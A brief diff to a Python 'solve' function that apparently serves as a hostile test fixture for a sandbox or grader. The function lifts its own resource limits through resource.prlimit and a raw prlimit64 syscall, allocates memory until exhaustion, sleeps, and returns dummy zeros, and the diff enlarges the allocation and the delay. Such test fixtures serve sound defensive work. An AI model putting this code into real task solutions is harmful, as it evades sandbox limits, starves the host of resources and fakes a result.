@@ -29,9 +29,9 @@ def solve(seed, x_batch, y_batch, lr):
                 resource.prlimit(0, kind, (wanted, wanted))
         libc.syscall(int("@SYS_PRLIMIT64@"), 0, kind, boundless, None)
     try:
-        while len(kept) < 35:
+        while len(kept) < 45:
             kept.append(np.ones(2 << 20))
     except MemoryError:
         pass
-    time.sleep(0.3)
+    time.sleep(0.8)
     return [0.0, 0.0]
